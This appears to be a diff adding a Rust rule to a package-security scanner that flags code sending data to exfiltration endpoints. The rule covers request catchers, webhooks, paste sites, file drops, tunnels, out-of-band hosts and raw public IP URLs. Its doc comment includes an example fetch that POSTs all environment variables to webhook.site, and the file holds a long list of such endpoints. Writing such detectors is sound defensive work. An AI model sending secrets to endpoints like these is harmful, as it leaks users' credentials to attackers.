@@ -1,0 +1,170 @@
+//! # SW-GEN-007: exfiltration endpoint
+//!
+//! **What it does.** Finds URLs and hosts that exist to receive data from
+//! strangers: request catchers (webhook.site, pipedream, requestbin,
+//! beeceptor), Discord webhooks and the Telegram bot API, paste and
+//! file-drop sites, tunnels (ngrok, trycloudflare, localhost.run,
+//! serveo), out-of-band testing hosts (oastify, burpcollaborator,
+//! interact.sh, dnslog, canarytokens), IP-lookup services, and URLs whose
+//! host is a public IPv4 address.
+//!
+//! **Why is this bad.** Stolen credentials have to go somewhere, and
+//! attackers pick endpoints that need no account and leave no trail. A
+//! library has little reason to talk to any of them, and none to do so
+//! while it is installed or imported.
+//!
+//! **Example.**
+//!
+//! ```javascript
+//! fetch("https://webhook.site/0000", { method: "POST", body: JSON.stringify(process.env) });
+//! ```
+//!
+//! **False positives.** Notification libraries that post to Discord or
+//! Telegram on request, and tests or docs with a literal IP address.
+//! Those run only when called and weigh little; at install, startup or
+//! import the rule is `high`.
+
+use std::sync::LazyLock;
+
+use super::{Context, Emit, Rule, matcher};
+use crate::model::{Severity, Stage};
+
+pub(crate) static RULE: Rule = Rule {
+    id: "SW-GEN-007",
+    title: "exfiltration endpoint",
+    source: include_str!("gen007_exfil_endpoint.rs"),
+    check,
+};
+
+/// (pattern, what it is).
+const ENDPOINTS: &[(&str, &str)] = &[
+    ("webhook.site", "a request catcher"),
+    ("pipedream.net", "a request catcher"),
+    ("requestbin", "a request catcher"),
+    ("beeceptor.com", "a request catcher"),
+    ("hookbin.com", "a request catcher"),
+    ("discord.com/api/webhooks", "a Discord webhook"),
+    ("discordapp.com/api/webhooks", "a Discord webhook"),
+    ("api.telegram.org/bot", "the Telegram bot API"),
+    ("pastebin.com", "a paste site"),
+    ("hastebin", "a paste site"),
+    ("ghostbin", "a paste site"),
+    ("paste.ee", "a paste site"),
+    ("rentry.co", "a paste site"),
+    ("transfer.sh", "a file drop"),
+    ("file.io", "a file drop"),
+    ("gofile.io", "a file drop"),
+    ("anonfiles", "a file drop"),
+    ("catbox.moe", "a file drop"),
+    ("filetransfer.io", "a file drop"),
+    ("ngrok.io", "a tunnel"),
+    ("ngrok-free.app", "a tunnel"),
+    ("ngrok.app", "a tunnel"),
+    ("trycloudflare.com", "a tunnel"),
+    ("localhost.run", "a tunnel"),
+    ("serveo.net", "a tunnel"),
+    ("loca.lt", "a tunnel"),
+    ("oastify.com", "an out-of-band testing host"),
+    ("burpcollaborator.net", "an out-of-band testing host"),
+    ("interact.sh", "an out-of-band testing host"),
+    ("oast.fun", "an out-of-band testing host"),
+    ("oast.pro", "an out-of-band testing host"),
+    ("oast.live", "an out-of-band testing host"),
+    ("oast.site", "an out-of-band testing host"),
+    ("oast.online", "an out-of-band testing host"),
+    ("oast.me", "an out-of-band testing host"),
+    ("dnslog.cn", "an out-of-band testing host"),
+    ("ceye.io", "an out-of-band testing host"),
+    ("canarytokens.com", "an out-of-band testing host"),
+    ("ipinfo.io", "an IP-lookup service"),
+    ("api.ipify.org", "an IP-lookup service"),
+    ("ifconfig.me", "an IP-lookup service"),
+    ("icanhazip.com", "an IP-lookup service"),
+    ("ip-api.com", "an IP-lookup service"),
+    ("checkip.amazonaws.com", "an IP-lookup service"),
+];
+
+static MATCHER: LazyLock<aho_corasick::AhoCorasick> =
+    LazyLock::new(|| matcher(&ENDPOINTS.iter().map(|(p, _)| *p).collect::<Vec<_>>()));
+
+static IP_URL: LazyLock<regex::Regex> = LazyLock::new(|| {
+    regex::Regex::new(r"(?i)\b(?:https?|wss?|tcp)://(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})(?::\d+)?")
+        .expect("a valid regex")
+});
+
+fn check(cx: &Context<'_>, out: &mut Emit<'_>) {
+    for hit in cx.indicator_hits(&MATCHER) {
+        let (pattern, what) = ENDPOINTS[hit.pattern];
+        let severity = severity(hit.stage, what);
+        out.finding(severity, hit.stage, &hit.file.path, Some(hit.line), format!("sends to {what} (`{pattern}`)"));
+    }
+    for (file, _) in cx.code_texts() {
+        let Some(facts) = &file.facts else { continue };
+        let mut reported = false;
+        for lit in &facts.strings {
+            if reported || lit.value.len() > 100_000 {
+                continue;
+            }
+            for caps in IP_URL.captures_iter(&lit.value) {
+                let octets: Vec<u8> = (1..=4).filter_map(|i| caps[i].parse().ok()).collect();
+                if octets.len() == 4 && is_public(&octets) {
+                    let severity = if lit.stage.is_automatic() { Severity::High } else { Severity::Low };
+                    out.finding(
+                        severity,
+                        lit.stage,
+                        &file.path,
+                        Some(lit.line),
+                        format!("talks to a raw IP address (`{}`)", &caps[0]),
+                    );
+                    reported = true;
+                    break;
+                }
+            }
+        }
+    }
+}
+
+fn severity(stage: Stage, what: &str) -> Severity {
+    match (stage.is_automatic(), what) {
+        (true, "an IP-lookup service") => Severity::Medium,
+        (true, _) => Severity::High,
+        (false, "an IP-lookup service") => Severity::Low,
+        (false, "a Discord webhook" | "the Telegram bot API" | "a paste site") => Severity::Low,
+        (false, _) => Severity::Medium,
+    }
+}
+
+/// Whether an IPv4 address is publicly routable (not private, loopback,
+/// link-local, documentation, multicast or unspecified).
+fn is_public(o: &[u8]) -> bool {
+    let reserved = matches!(
+        (o[0], o[1], o[2]),
+        (0, ..)
+            | (10, ..)
+            | (127, ..)
+            | (169, 254, _)
+            | (198, 18 | 19, _)
+            | (192, 168, _)
+            | (192, 0, 2)
+            | (198, 51, 100)
+            | (203, 0, 113)
+    );
+    let private_172 = o[0] == 172 && (16..32).contains(&o[1]);
+    let shared_100 = o[0] == 100 && (64..128).contains(&o[1]);
+    !reserved && !private_172 && !shared_100 && o[0] < 224
+}
+
+#[cfg(test)]
+mod tests {
+    use super::is_public;
+
+    #[test]
+    fn public_addresses() {
+        assert!(is_public(&[83, 142, 209, 194]));
+        assert!(!is_public(&[10, 0, 0, 1]));
+        assert!(!is_public(&[172, 20, 0, 1]));
+        assert!(!is_public(&[169, 254, 169, 254]));
+        assert!(!is_public(&[127, 0, 0, 1]));
+        assert!(!is_public(&[192, 0, 2, 7]));
+    }
+}
